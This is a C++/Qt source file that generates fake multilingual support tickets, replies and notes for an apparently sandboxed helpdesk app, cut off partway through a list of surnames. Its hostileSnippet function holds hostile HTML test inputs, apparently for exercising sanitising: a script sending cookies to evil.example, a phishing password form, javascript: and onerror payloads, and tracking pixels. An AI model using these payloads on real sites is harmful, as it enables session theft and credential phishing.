#include "SeedCorpus.h"

#include <QRegularExpression>

namespace {

// Index 0 English, 1 German, 2 French; two variants each. %1 is an order or invoice number.
struct Topic
{
    int department;
    int team;
    bool orderNumber;
    const char *labels;
    const char *subjects[3][2];
    const char *problems[3][2];
    const char *replies[3][2];
};

const Topic topics[] = {
    {4,
     3,
     true,
     "billing,invoice",
     {{"Invoice %1 charged twice", "Question about invoice %1"},
      {"Rechnung %1 doppelt abgebucht", "Frage zur Rechnung %1"},
      {"Facture %1 prélevée deux fois", "Question sur la facture %1"}},
     {{"I just noticed that invoice %1 was charged twice to our company card. Could you please check and "
       "refund the duplicate payment?",
       "Our accounts team cannot match invoice %1 to any order. The amount looks higher than the price on "
       "your website, VAT included."},
      {"mir ist aufgefallen, dass die Rechnung %1 zweimal von unserer Firmenkarte abgebucht wurde. Können "
       "Sie das bitte prüfen und die doppelte Zahlung erstatten?",
       "unsere Buchhaltung kann die Rechnung %1 keiner Bestellung zuordnen. Der Betrag ist höher als der "
       "Preis auf Ihrer Webseite, inklusive MwSt."},
      {"je viens de remarquer que la facture %1 a été prélevée deux fois sur notre carte. Pourriez-vous "
       "vérifier et rembourser le paiement en double ?",
       "notre service comptable n'arrive pas à rapprocher la facture %1 d'une commande. Le montant est "
       "supérieur au prix affiché, TVA comprise."}},
     {{"I have checked our payment records and you are right: the second charge was a duplicate. The refund "
       "has been issued and should appear within 3–5 business days.",
       "I have attached a corrected copy of the invoice. The difference comes from the annual plan discount "
       "that was not applied."},
      {"ich habe unsere Zahlungsdaten geprüft, und Sie haben recht: Die zweite Abbuchung war doppelt. Die "
       "Erstattung ist veranlasst und sollte in 3–5 Werktagen sichtbar sein.",
       "anbei erhalten Sie eine korrigierte Rechnung. Die Differenz kommt vom Jahresrabatt, der nicht "
       "berücksichtigt wurde."},
      {"j'ai vérifié nos paiements et vous avez raison : le second prélèvement était un doublon. Le "
       "remboursement est lancé et apparaîtra sous 3 à 5 jours ouvrés.",
       "vous trouverez ci-joint une facture corrigée. La différence vient de la remise annuelle qui n'avait "
       "pas été appliquée."}}},
    {3,
     1,
     false,
     "login",
     {{"Password reset link not working", "Can't log in after password reset"},
      {"Passwort zurücksetzen funktioniert nicht", "Anmeldung nach Passwort-Reset nicht möglich"},
      {"Réinitialisation du mot de passe impossible", "Connexion impossible après réinitialisation"}},
     {{"I requested a password reset three times but the link in the e-mail always says it has expired.",
       "After resetting my password I still get \"invalid credentials\" when I try to sign in."},
      {"ich habe dreimal ein neues Passwort angefordert, aber der Link in der E-Mail ist immer abgelaufen.",
       "nach dem Zurücksetzen meines Passworts erhalte ich weiterhin „ungültige Anmeldedaten“."},
      {"j'ai demandé trois fois la réinitialisation de mon mot de passe mais le lien dans l'e-mail est "
       "toujours expiré.",
       "après avoir réinitialisé mon mot de passe, j'obtiens toujours « identifiants invalides »."}},
     {{"Reset links are valid for 30 minutes only. I have sent you a fresh one just now; please use it "
       "right away and let me know if it works.",
       "Your account was locked after several failed attempts. I have unlocked it, so you should be able "
       "to sign in with your new password."},
      {"Die Links sind nur 30 Minuten gültig. Ich habe Ihnen gerade einen neuen geschickt; bitte nutzen Sie "
       "ihn gleich und geben Sie mir Bescheid.",
       "Ihr Konto wurde nach mehreren Fehlversuchen gesperrt. Ich habe es entsperrt, Sie sollten sich jetzt "
       "mit dem neuen Passwort anmelden können."},
      {"Les liens ne sont valables que 30 minutes. Je viens de vous en envoyer un nouveau ; merci de "
       "l'utiliser tout de suite.",
       "Votre compte était verrouillé après plusieurs tentatives. Je l'ai déverrouillé, vous pouvez vous "
       "connecter avec le nouveau mot de passe."}}},
    {2,
     2,
     false,
     "bug",
     {{"Cannot upload my résumé", "Résumé upload fails with error 413"},
      {"Lebenslauf-Upload (Résumé) schlägt fehl", "Fehler beim Hochladen des Lebenslaufs"},
      {"Impossible de téléverser mon CV (résumé)", "Erreur lors de l'envoi de mon résumé"}},
     {{"When I try to upload my résumé as a PDF the page just spins and then shows \"Request Entity Too "
       "Large\". The file is only 4 MB.",
       "The résumé upload button does nothing in Safari. It works in Firefox but the formatting is lost."},
      {"wenn ich meinen Lebenslauf (Résumé) als PDF hochlade, dreht sich die Seite nur und zeigt dann einen "
       "Fehler. Die Datei hat nur 4 MB.",
       "der Upload-Knopf für den Lebenslauf reagiert in Safari nicht. In Firefox geht es, aber die "
       "Formatierung fehlt."},
      {"quand j'essaie de téléverser mon CV (résumé) en PDF, la page tourne puis affiche une erreur. Le "
       "fichier ne fait que 4 Mo.",
       "le bouton d'envoi du résumé ne fait rien sous Safari. Sous Firefox cela fonctionne mais la mise en "
       "page est perdue."}},
     {{"Thanks for the details. Our upload limit was set too low after the last release; we have raised it "
       "to 20 MB. Could you try again?",
       "This is a known Safari issue and our developers are working on a fix. Meanwhile, please use Firefox "
       "or Chrome."},
      {"Danke für die Details. Das Upload-Limit war nach dem letzten Release zu niedrig; wir haben es auf "
       "20 MB erhöht. Könnten Sie es noch einmal versuchen?",
       "Das ist ein bekanntes Problem mit Safari, unsere Entwickler arbeiten daran. Bitte nutzen Sie so "
       "lange Firefox oder Chrome."},
      {"Merci pour les détails. La limite d'envoi était trop basse depuis la dernière version ; nous "
       "l'avons portée à 20 Mo. Pouvez-vous réessayer ?",
       "C'est un problème connu avec Safari, nos développeurs y travaillent. En attendant, merci d'utiliser "
       "Firefox ou Chrome."}}},
    {7,
     1,
     true,
     "shipping",
     {{"Where is my order %1?", "Order %1 still not delivered"},
      {"Wo bleibt meine Bestellung %1?", "Lieferung %1 noch nicht angekommen"},
      {"Où est ma commande %1 ?", "Commande %1 toujours pas livrée"}},
     {{"I ordered two weeks ago (order %1) and the tracking page hasn't changed since it left your "
       "warehouse.",
       "The courier marked order %1 as delivered but nothing arrived. My neighbours haven't received it "
       "either."},
      {"ich habe vor zwei Wochen bestellt (Bestellung %1), und die Sendungsverfolgung zeigt seit dem "
       "Versand keine Änderung.",
       "der Paketdienst hat die Bestellung %1 als zugestellt markiert, aber hier ist nichts angekommen."},
      {"j'ai commandé il y a deux semaines (commande %1) et le suivi n'a pas bougé depuis le départ de "
       "l'entrepôt.",
       "le transporteur indique que la commande %1 a été livrée mais je n'ai rien reçu."}},
     {{"I've contacted the courier and opened an investigation. If the parcel doesn't turn up within 48 "
       "hours we'll send a replacement free of charge.",
       "The parcel was held at the depot because of an incomplete address. It is back on its way and "
       "should reach you tomorrow."},
      {"Ich habe den Paketdienst kontaktiert und einen Nachforschungsauftrag gestellt. Taucht das Paket "
       "nicht binnen 48 Stunden auf, schicken wir kostenlos Ersatz.",
       "Das Paket lag wegen einer unvollständigen Adresse im Depot. Es ist wieder unterwegs und sollte "
       "morgen ankommen."},
      {"J'ai contacté le transporteur et ouvert une enquête. Si le colis n'arrive pas sous 48 heures, nous "
       "vous enverrons un remplacement gratuitement.",
       "Le colis était bloqué au dépôt à cause d'une adresse incomplète. Il est reparti et devrait arriver "
       "demain."}}},
    {5,
     3,
     true,
     "refund",
     {{"Refund request for order %1", "Still waiting for my refund (%1)"},
      {"Rückerstattung für Bestellung %1", "Erstattung für %1 noch nicht erhalten"},
      {"Demande de remboursement – commande %1", "Remboursement de la commande %1 non reçu"}},
     {{"I returned order %1 three weeks ago and haven't received the refund yet. The return label was "
       "scanned on the 3rd.",
       "The product from order %1 arrived damaged. I'd like a full refund rather than a replacement."},
      {"ich habe die Bestellung %1 vor drei Wochen zurückgeschickt und noch keine Rückerstattung erhalten.",
       "die Ware aus Bestellung %1 kam beschädigt an. Ich möchte lieber eine vollständige Erstattung als "
       "einen Ersatz."},
      {"j'ai renvoyé la commande %1 il y a trois semaines et je n'ai toujours pas été remboursé.",
       "le produit de la commande %1 est arrivé abîmé. Je souhaite un remboursement complet plutôt qu'un "
       "échange."}},
     {{"Your return has been received and the refund was approved today. Depending on your bank it takes "
       "up to 10 days to show on your statement.",
       "I'm sorry about the damaged item. I've approved a full refund; you don't need to send it back."},
      {"Ihre Rücksendung ist eingegangen und die Erstattung wurde heute freigegeben. Je nach Bank dauert es "
       "bis zu 10 Tage.",
       "Das mit der beschädigten Ware tut mir leid. Ich habe die volle Erstattung freigegeben; Sie müssen "
       "nichts zurückschicken."},
      {"Votre retour a bien été reçu et le remboursement a été validé aujourd'hui. Selon votre banque, "
       "comptez jusqu'à 10 jours.",
       "Désolé pour l'article abîmé. J'ai validé un remboursement complet ; inutile de nous le renvoyer."}}},
    {2,
     2,
     false,
     "bug",
     {{"App crashes when exporting to PDF", "Export button greyed out since update"},
      {"Absturz beim PDF-Export", "Export-Schaltfläche seit dem Update ausgegraut"},
      {"Plantage lors de l'export PDF", "Bouton d'export grisé depuis la mise à jour"}},
     {{"Since version 4.2 the desktop app crashes every time I export a report to PDF. Steps: open any "
       "report, File → Export → PDF, click Save.",
       "After yesterday's update the Export button is greyed out for all users in our workspace."},
      {"seit Version 4.2 stürzt die Desktop-App bei jedem PDF-Export ab. Schritte: Bericht öffnen, Datei → "
       "Exportieren → PDF, Speichern.",
       "seit dem gestrigen Update ist die Export-Schaltfläche für alle Nutzer ausgegraut."},
      {"depuis la version 4.2, l'application plante à chaque export PDF. Étapes : ouvrir un rapport, "
       "Fichier → Exporter → PDF, Enregistrer.",
       "depuis la mise à jour d'hier, le bouton Exporter est grisé pour tous les utilisateurs."}},
     {{"Thanks for the clear steps, I could reproduce the crash. It's fixed in 4.2.1, which is rolling out "
       "now.",
       "Exporting now needs the new \"Reports\" permission. An administrator can enable it under Settings → "
       "Roles."},
      {"Danke für die genauen Schritte, ich konnte den Absturz nachstellen. Er ist in 4.2.1 behoben, das "
       "gerade verteilt wird.",
       "Für den Export ist jetzt die neue Berechtigung „Berichte“ nötig. Ein Administrator kann sie unter "
       "Einstellungen → Rollen aktivieren."},
      {"Merci pour les étapes précises, j'ai pu reproduire le plantage. C'est corrigé dans la 4.2.1, en "
       "cours de déploiement.",
       "L'export nécessite désormais la permission « Rapports ». Un administrateur peut l'activer dans "
       "Paramètres → Rôles."}}},
    {4,
     3,
     true,
     "billing",
     {{"Bank transfer for invoice %1 not received?", "Payment by bank transfer"},
      {"Überweisung zur Rechnung %1 nicht angekommen?", "Zahlung per Überweisung"},
      {"Virement pour la facture %1 non reçu ?", "Paiement par virement bancaire"}},
     {{"We paid invoice %1 by bank transfer ten days ago but we received a payment reminder today.",
       "Can we pay by bank transfer instead of credit card? Our finance department requires it."},
      {"wir haben die Rechnung %1 vor zehn Tagen per Überweisung bezahlt, heute kam trotzdem eine "
       "Zahlungserinnerung.",
       "können wir per Überweisung statt Kreditkarte zahlen? Unsere Buchhaltung verlangt das."},
      {"nous avons réglé la facture %1 par virement il y a dix jours mais nous avons reçu une relance "
       "aujourd'hui.",
       "pouvons-nous payer par virement plutôt que par carte ? Notre service financier l'exige."}},
     {{"Your transfer arrived without the invoice number in the reference, so it wasn't matched. I've "
       "matched it manually; please ignore the reminder.",
       "Yes, bank transfer is available on annual plans. I've switched your account; the next invoice will "
       "show our IBAN."},
      {"Ihre Überweisung kam ohne Rechnungsnummer im Verwendungszweck an und wurde daher nicht zugeordnet. "
       "Ich habe sie manuell zugeordnet; die Mahnung ist hinfällig.",
       "Ja, Überweisung ist bei Jahresverträgen möglich. Ich habe Ihr Konto umgestellt; die nächste Rechnung "
       "enthält unsere IBAN."},
      {"Votre virement est arrivé sans numéro de facture dans le libellé. Je l'ai rapproché manuellement ; "
       "vous pouvez ignorer la relance.",
       "Oui, le virement est possible pour les abonnements annuels. J'ai modifié votre compte ; la prochaine "
       "facture indiquera notre IBAN."}}},
    {1,
     1,
     false,
     "complaint",
     {{"Complaint about response time", "Very disappointed with your service"},
      {"Beschwerde über lange Wartezeit", "Sehr enttäuscht vom Kundenservice"},
      {"Réclamation concernant le délai de réponse", "Réclamation : service très décevant"}},
     {{"This is the third time I write about the same issue and nobody has answered in a week.",
       "I was promised a call back on Monday and never heard from anyone."},
      {"ich schreibe bereits zum dritten Mal wegen desselben Problems und seit einer Woche antwortet "
       "niemand.",
       "mir wurde für Montag ein Rückruf versprochen, aber niemand hat sich gemeldet."},
      {"c'est la troisième fois que j'écris pour le même problème et personne ne répond depuis une "
       "semaine. Je souhaite déposer une réclamation.",
       "on m'avait promis un rappel lundi et personne ne m'a contacté."}},
     {{"I'm sorry for the wait; that is not the service we want to give. I've taken over your case "
       "personally and will keep you updated.",
       "I apologise for the missed call. I've booked a call for tomorrow at 10:00 — does that suit you?"},
      {"Entschuldigen Sie die Wartezeit, so soll unser Service nicht sein. Ich habe Ihren Fall persönlich "
       "übernommen und halte Sie auf dem Laufenden.",
       "Entschuldigen Sie den verpassten Rückruf. Ich habe einen Termin für morgen um 10:00 Uhr eingetragen "
       "— passt Ihnen das?"},
      {"Veuillez nous excuser pour l'attente. J'ai repris votre dossier personnellement et je vous tiendrai "
       "informé.",
       "Toutes nos excuses pour l'appel manqué. J'ai prévu un appel demain à 10h00 — cela vous convient-il "
       "?"}}},
    {3,
     2,
     false,
     "login,2fa",
     {{"Locked out after enabling two-factor authentication", "Lost phone with authenticator app"},
      {"Nach Aktivierung der Zwei-Faktor-Authentifizierung ausgesperrt",
       "Handy mit Authenticator-App verloren"},
      {"Bloqué après activation de la double authentification",
       "Téléphone perdu avec l'application d'authentification"}},
     {{"I enabled two-factor authentication and now the codes from my app are always rejected.",
       "I lost my phone and can't generate codes anymore. I don't have the recovery codes either."},
      {"ich habe die Zwei-Faktor-Authentifizierung aktiviert, und jetzt werden die Codes aus meiner App "
       "immer abgelehnt.",
       "ich habe mein Handy verloren und kann keine Codes mehr erzeugen. Die Wiederherstellungscodes habe "
       "ich auch nicht."},
      {"j'ai activé la double authentification et maintenant les codes de mon application sont toujours "
       "refusés.",
       "j'ai perdu mon téléphone et je ne peux plus générer de codes. Je n'ai pas non plus les codes de "
       "secours."}},
     {{"Rejected codes usually mean the phone's clock is off. Please enable automatic time on your phone "
       "and try again.",
       "For your security I need to verify your identity first. Please reply from your registered e-mail "
       "address with the last four digits of your card."},
      {"Abgelehnte Codes bedeuten meist, dass die Uhr des Handys abweicht. Bitte aktivieren Sie die "
       "automatische Uhrzeit und versuchen Sie es erneut.",
       "Zu Ihrer Sicherheit muss ich zuerst Ihre Identität prüfen. Bitte antworten Sie von Ihrer "
       "registrierten Adresse mit den letzten vier Ziffern Ihrer Karte."},
      {"Des codes refusés signifient souvent que l'horloge du téléphone est décalée. Activez l'heure "
       "automatique et réessayez.",
       "Pour votre sécurité, je dois d'abord vérifier votre identité. Merci de répondre depuis votre "
       "adresse enregistrée avec les quatre derniers chiffres de votre carte."}}},
    {6,
     1,
     false,
     "sales",
     {{"Quote for 25 additional licences", "Upgrade to the Enterprise plan"},
      {"Angebot für 25 zusätzliche Lizenzen", "Wechsel auf den Enterprise-Tarif"},
      {"Devis pour 25 licences supplémentaires", "Passage à l'offre Entreprise"}},
     {{"We're growing and need 25 more seats before the end of the quarter. Could you send a quote?",
       "We'd like to move to the Enterprise plan. Is SSO included, and can we keep our current data?"},
      {"wir wachsen und brauchen bis Quartalsende 25 weitere Lizenzen. Können Sie uns ein Angebot "
       "schicken?",
       "wir möchten auf den Enterprise-Tarif wechseln. Ist SSO enthalten und bleiben unsere Daten "
       "erhalten?"},
      {"nous avons besoin de 25 licences supplémentaires avant la fin du trimestre. Pourriez-vous nous "
       "envoyer un devis ?",
       "nous souhaitons passer à l'offre Entreprise. Le SSO est-il inclus et nos données sont-elles "
       "conservées ?"}},
     {{"Thank you for your interest! The quote is attached; volume pricing applies from 20 seats.",
       "Yes, SSO is included and all your data stays as it is. I've asked our account manager to contact "
       "you."},
      {"Vielen Dank für Ihr Interesse! Das Angebot finden Sie im Anhang; ab 20 Lizenzen gilt der "
       "Mengenrabatt.",
       "Ja, SSO ist enthalten und alle Daten bleiben erhalten. Unsere Kundenbetreuerin meldet sich bei "
       "Ihnen."},
      {"Merci de votre intérêt ! Le devis est en pièce jointe ; le tarif dégressif s'applique dès 20 "
       "licences.",
       "Oui, le SSO est inclus et toutes vos données sont conservées. Notre chargée de compte va vous "
       "contacter."}}},
    {4,
     3,
     false,
     "billing,cancellation",
     {{"Please cancel my subscription", "Cancellation at the end of the contract"},
      {"Kündigung meines Abonnements", "Kündigung zum Vertragsende"},
      {"Résiliation de mon abonnement", "Résiliation à la fin du contrat"}},
     {{"Please cancel my subscription at the end of the current billing period and confirm by e-mail.",
       "We are switching providers. Please cancel our contract and tell us how to export our data."},
      {"bitte kündigen Sie mein Abonnement zum Ende des aktuellen Abrechnungszeitraums und bestätigen Sie "
       "die Kündigung.",
       "wir wechseln den Anbieter. Bitte kündigen Sie unseren Vertrag und teilen Sie uns mit, wie wir unsere "
       "Daten exportieren."},
      {"merci de résilier mon abonnement à la fin de la période en cours et de me le confirmer par e-mail.",
       "nous changeons de prestataire. Merci de résilier notre contrat et de nous indiquer comment exporter "
       "nos données."}},
     {{"I've scheduled the cancellation for the end of your billing period. You keep full access until "
       "then.",
       "Your contract is cancelled as requested. You can export everything under Settings → Data → Export."},
      {"Ich habe die Kündigung zum Ende Ihres Abrechnungszeitraums eingetragen. Bis dahin haben Sie vollen "
       "Zugriff.",
       "Ihr Vertrag ist wie gewünscht gekündigt. Den Export finden Sie unter Einstellungen → Daten → "
       "Export."},
      {"J'ai programmé la résiliation à la fin de votre période de facturation. Vous gardez l'accès complet "
       "d'ici là.",
       "Votre contrat est résilié comme demandé. Vous pouvez tout exporter dans Paramètres → Données → "
       "Export."}}},
    {4,
     1,
     false,
     "billing",
     {{"Change of billing address", "Wrong company name on invoices"},
      {"Änderung der Rechnungsadresse", "Falscher Firmenname auf den Rechnungen"},
      {"Changement d'adresse de facturation", "Mauvaise raison sociale sur les factures"}},
     {{"We have moved offices. Please update our billing address for all future invoices.",
       "Our invoices still show our old company name. Could you correct it and reissue the last one?"},
      {"wir sind umgezogen. Bitte ändern Sie unsere Rechnungsadresse für alle künftigen Rechnungen.",
       "auf unseren Rechnungen steht noch der alte Firmenname. Können Sie das korrigieren und die letzte "
       "Rechnung neu ausstellen?"},
      {"nous avons déménagé. Merci de mettre à jour notre adresse de facturation pour les prochaines "
       "factures.",
       "nos factures portent encore notre ancienne raison sociale. Pourriez-vous la corriger et rééditer la "
       "dernière facture ?"}},
     {{"Done — the new address is on file and will be used from the next invoice.",
       "I've corrected the company name and attached the reissued invoice."},
      {"Erledigt — die neue Adresse ist hinterlegt und gilt ab der nächsten Rechnung.",
       "Ich habe den Firmennamen korrigiert; die neu ausgestellte Rechnung finden Sie im Anhang."},
      {"C'est fait — la nouvelle adresse est enregistrée et sera utilisée dès la prochaine facture.",
       "J'ai corrigé la raison sociale ; vous trouverez la facture rééditée en pièce jointe."}}},
};

constexpr int topicTotal = int(sizeof(topics) / sizeof(topics[0]));

QString u(const char *utf8)
{
    return QString::fromUtf8(utf8);
}

QStringList list(std::initializer_list<const char *> items)
{
    QStringList out;
    for (const char *item : items)
        out << QString::fromUtf8(item);
    return out;
}

int lang(int language)
{
    return qBound(1, language, 3) - 1;
}

const Topic &topic(int index)
{
    return topics[qBound(0, index, topicTotal - 1)];
}

QString fill(const char *text, SeedRandom &rng)
{
    QString out = u(text);
    if (out.contains(QLatin1String("%1")))
        out = out.arg(rng.between(100000, 999999));
    return out;
}

QString escaped(const QString &text)
{
    return text.toHtmlEscaped();
}

} // namespace

int SeedCorpus::topicCount()
{
    return topicTotal;
}

int SeedCorpus::topicDepartment(int index)
{
    return topic(index).department;
}

int SeedCorpus::topicTeam(int index)
{
    return topic(index).team;
}

bool SeedCorpus::topicHasOrderNumber(int index)
{
    return topic(index).orderNumber;
}

QStringList SeedCorpus::topicLabels(int index)
{
    return u(topic(index).labels).split(QLatin1Char(','));
}

QString SeedCorpus::subject(int index, int language, SeedRandom &rng)
{
    return fill(topic(index).subjects[lang(language)][rng.below(2)], rng);
}

QString SeedCorpus::opening(int index, int language, const QString &customerName, const QString &company,
                            SeedRandom &rng, QString *core)
{
    static const QStringList hello[3] = {
        list({"Hello,", "Hi there,", "Dear support team,", "Good morning,"}),
        list({"Hallo,", "Guten Tag,", "Sehr geehrte Damen und Herren,", "Liebes Support-Team,"}),
        list({"Bonjour,", "Madame, Monsieur,", "Bonjour à toute l'équipe,"})};
    static const QStringList more[3] = {
        list({"Thanks in advance for your help.", "This is quite urgent for us.",
              "Please let me know if you need anything else from me."}),
        list({"Vielen Dank im Voraus für Ihre Hilfe.", "Das ist für uns ziemlich dringend.",
              "Bitte melden Sie sich, falls Sie noch etwas von mir brauchen."}),
        list({"Merci d'avance pour votre aide.", "C'est assez urgent pour nous.",
              "N'hésitez pas si vous avez besoin d'autres informations."})};
    static const QStringList regards[3] = {
        list({"Best regards,", "Kind regards,", "Thanks,", "Cheers,"}),
        list({"Mit freundlichen Grüßen", "Viele Grüße", "Beste Grüße"}),
        list({"Cordialement,", "Bien à vous,", "Merci et bonne journée,"})};
    const int l = lang(language);
    const QString problem = fill(topic(index).problems[l][rng.below(2)], rng);
    if (core)
        *core = problem;
    QString html = QStringLiteral("<p>") + rng.pick(hello[l]) + QStringLiteral("</p>\n<p>") +
                   escaped(problem) + QStringLiteral("</p>\n<p>") + rng.pick(more[l]) +
                   QStringLiteral("</p>\n<p>") + rng.pick(regards[l]) + QStringLiteral("<br>") +
                   escaped(customerName);
    if (!company.isEmpty())
        html += QStringLiteral("<br>") + escaped(company);
    return html + QStringLiteral("</p>");
}

QString SeedCorpus::agentReply(int index, int language, const QString &customerFirstName,
                               const QString &agentName, const QString &quotedText, bool closing,
                               SeedRandom &rng, QString *core)
{
    static const QStringList hello[3] = {list({"Hi %1,", "Hello %1,", "Dear %1,"}),
                                         list({"Hallo %1,", "Guten Tag %1,"}),
                                         list({"Bonjour %1,", "Chère cliente, cher client,"})};
    static const QStringList thanks[3] = {
        list({"Thank you for contacting us.", "Thanks for getting back to us.", "Thanks for your patience."}),
        list({"Vielen Dank für Ihre Nachricht.", "Danke für Ihre Rückmeldung.", "Danke für Ihre Geduld."}),
        list({"Merci de nous avoir contactés.", "Merci pour votre retour.", "Merci de votre patience."})};
    static const QStringList ending[3] = {
        list({"Is there anything else I can help you with?", "Let me know if this solves it for you."}),
        list({"Kann ich sonst noch etwas für Sie tun?", "Geben Sie mir gern Bescheid, ob das hilft."}),
        list({"Puis-je vous aider pour autre chose ?", "Dites-moi si cela résout le problème."})};
    static const QStringList wrote[3] = {list({"You wrote:"}), list({"Sie schrieben:"}),
                                         list({"Vous avez écrit :"})};
    static const QStringList team[3] = {list({"Customer Support"}), list({"Kundenservice"}),
                                        list({"Service client"})};
    const int l = lang(language);
    const QString answer = fill(topic(index).replies[l][rng.below(2)], rng);
    if (core)
        *core = answer;
    QString greeting = rng.pick(hello[l]);
    if (greeting.contains(QLatin1String("%1")))
        greeting = greeting.arg(escaped(customerFirstName));
    QString html = QStringLiteral("<p>") + greeting + QStringLiteral("</p>\n<p>") + rng.pick(thanks[l]) +
                   QLatin1Char(' ') + escaped(answer) + QStringLiteral("</p>\n");
    if (closing)
        html += QStringLiteral("<p>") + rng.pick(ending[l]) + QStringLiteral("</p>\n");
    html += QStringLiteral("<p>--<br>") + escaped(agentName) + QStringLiteral("<br>") + team[l].constFirst() +
            QStringLiteral(" · Deskhand Sandbox</p>");
    if (!quotedText.isEmpty()) {
        html += QStringLiteral("\n<blockquote><p>") + wrote[l].constFirst() + QStringLiteral("</p><p>") +
                escaped(quotedText) + QStringLiteral("</p></blockquote>");
    }
    return html;
}

QString SeedCorpus::genericAgentReply(int language, const QString &customerFirstName,
                                      const QString &agentName, SeedRandom &rng)
{
    static const QStringList lines[3] = {
        list({"Thanks for the update. I'm looking into it and will get back to you shortly.",
              "I've passed this on to our specialists and will update you as soon as I hear back.",
              "Could you send us a screenshot of the error message? That would help a lot."}),
        list({"Danke für die Rückmeldung. Ich sehe mir das an und melde mich in Kürze.",
              "Ich habe das an unsere Fachabteilung weitergegeben und melde mich, sobald ich etwas höre.",
              "Könnten Sie uns einen Screenshot der Fehlermeldung schicken? Das würde sehr helfen."}),
        list({"Merci pour ces précisions. Je regarde cela et je reviens vers vous rapidement.",
              "J'ai transmis votre demande à nos spécialistes et je vous tiens informé dès que possible.",
              "Pourriez-vous nous envoyer une capture d'écran du message d'erreur ? Cela nous aiderait "
              "beaucoup."})};
    static const QStringList hello[3] = {list({"Hi %1,"}), list({"Hallo %1,"}), list({"Bonjour %1,"})};
    const int l = lang(language);
    return QStringLiteral("<p>") + hello[l].constFirst().arg(escaped(customerFirstName)) +
           QStringLiteral("</p>\n<p>") + escaped(rng.pick(lines[l])) + QStringLiteral("</p>\n<p>--<br>") +
           escaped(agentName) + QStringLiteral("</p>");
}

QString SeedCorpus::customerFollowUp(int language, const QString &customerName, const QString &quotedText,
                                     SeedRandom &rng, QString *core)
{
    static const QStringList lines[3] = {
        list({"Thanks for the quick answer, but the problem is still there.",
              "I tried that and it didn't help, unfortunately.", "Any news on this? It's been a few days.",
              "Thank you, that worked! One more question though: can I get a copy by post?",
              "Sorry, I forgot to attach the screenshot earlier."}),
        list({"Danke für die schnelle Antwort, aber das Problem besteht weiterhin.",
              "Das habe ich versucht, leider ohne Erfolg.",
              "Gibt es schon Neuigkeiten? Es ist ein paar Tage her.",
              "Danke, das hat funktioniert! Noch eine Frage: Bekomme ich eine Kopie per Post?",
              "Entschuldigung, ich hatte vergessen, den Screenshot anzuhängen."}),
        list({"Merci pour la réponse rapide, mais le problème persiste.",
              "J'ai essayé, sans succès malheureusement.", "Avez-vous du nouveau ? Cela fait quelques jours.",
              "Merci, cela a fonctionné ! Une dernière question : puis-je recevoir une copie par courrier ?",
              "Désolé, j'avais oublié de joindre la capture d'écran."})};
    static const QStringList wrote[3] = {list({"On %1 Support wrote:"}), list({"Am %1 schrieb der Support:"}),
                                         list({"Le %1, le support a écrit :"})};
    const int l = lang(language);
    const QString line = rng.pick(lines[l]);
    if (core)
        *core = line;
    QString html = QStringLiteral("<p>") + escaped(line) + QStringLiteral("</p>\n<p>") +
                   escaped(customerName) + QStringLiteral("</p>");
    if (!quotedText.isEmpty()) {
        html += QStringLiteral("\n<blockquote><p>") +
                wrote[l].constFirst().arg(l == 0   ? QStringLiteral("Monday")
                                          : l == 1 ? QStringLiteral("Montag")
                                                   : QStringLiteral("lundi")) +
                QStringLiteral("</p><p>") + escaped(quotedText) + QStringLiteral("</p></blockquote>");
    }
    return html;
}

QString SeedCorpus::note(int language, SeedRandom &rng)
{
    static const QStringList lines[3] = {
        list({"Checked the billing system: the payment is there, matched manually.",
              "Customer called as well, same issue. Escalating to second line.",
              "Known issue, see the bug tracker. Waiting for the 4.2.1 release.",
              "VIP customer, please handle with priority.", "Asked the warehouse for the tracking details."}),
        list({"Im Abrechnungssystem geprüft: Zahlung ist da, manuell zugeordnet.",
              "Kunde hat auch angerufen, gleiches Problem. Geht an den Second Level.",
              "Bekanntes Problem, siehe Bugtracker. Warten auf 4.2.1.",
              "Wichtiger Kunde, bitte bevorzugt behandeln."}),
        list({"Vérifié dans la facturation : le paiement est bien là, rapproché à la main.",
              "Le client a aussi appelé, même problème. Transmis au niveau 2.",
              "Problème connu, voir le suivi des bugs. En attente de la 4.2.1.",
              "Client important, à traiter en priorité."})};
    return QStringLiteral("<p>") + escaped(rng.pick(lines[lang(language)])) + QStringLiteral("</p>");
}

QString SeedCorpus::hostileSnippet(SeedRandom &rng)
{
    static const QStringList snippets = list({
        "<img src=\"http://tracker.example.net/open.gif?u=8f3a\" width=\"1\" height=\"1\" alt=\"\">",
        "<script>document.location='http://evil.example/steal?c='+document.cookie</script>",
        "<p>See the report on <a href=\"file:///C:/Users/Public/report.xlsx\">our share</a>.</p>",
        "<p>Invoice copy: <a "
        "href=\"\\\\fileserver01\\finance\\invoices\\2024.pdf\">\\\\fileserver01\\finance</a></p>",
        "<div style=\"background-image: url('http://images.example.org/bg.png')\">Newsletter</div>",
        "<iframe src=\"http://ads.example.com/frame.html\" width=\"300\" height=\"250\"></iframe>",
        "<form action=\"http://phish.example.com/login\" method=\"post\"><input name=\"password\" "
        "type=\"password\"><button>Verify account</button></form>",
        "<p><a href=\"javascript:alert('pwned')\">Click here to confirm</a></p>",
        "<img src=\"https://cdn.example.com/logo.png\" onerror=\"alert(1)\">",
        "<style>body { background: url(http://tracker.example.net/css.gif) }</style>",
    });
    QString out;
    const int count = rng.between(2, 4);
    for (int i = 0; i < count; ++i)
        out += QLatin1Char('\n') + rng.pick(snippets);
    return out;
}

QStringList SeedCorpus::firstNames(int language)
{
    static const QStringList names[3] = {
        list({"James",  "Emily",     "Oliver",   "Sophie", "Michael", "Hannah", "Daniel", "Grace",
              "Thomas", "Charlotte", "William",  "Olivia", "Jack",    "Amelia", "Henry",  "Isabella",
              "Samuel", "Chloe",     "Benjamin", "Lucy",   "Ethan",   "Megan",  "Ryan",   "Zoe"}),
        list({"Jürgen",    "Lukas",  "Anna",   "Maximilian", "Lena",    "Felix",   "Marie",  "Jonas",
              "Katharina", "Stefan", "Sabine", "Matthias",   "Julia",   "Andreas", "Jörg",   "Björn",
              "Uwe",       "Birgit", "Sören",  "Mareike",    "Günther", "Dörte",   "Tobias", "Ute"}),
        list({"Élodie",  "Jérôme",  "François", "Chloé", "Hélène",    "Benoît",  "Amélie",   "Léa",
              "Mathéo",  "Céline",  "Stéphane", "Anaïs", "Théo",      "Margaux", "Gaëlle",   "Loïc",
              "Aurélie", "Clément", "Inès",     "Noël",  "Sébastien", "Maëlle",  "Frédéric", "Zoé"})};
    return names[lang(language)];
}

QStringList SeedCorpus::lastNames(int language)
{
    static const QStringList names[3] = {
        list({"Smith",    "Johnson", "Williams", "Brown",    "Taylor",  "Wilson", "Davies", "Evans",
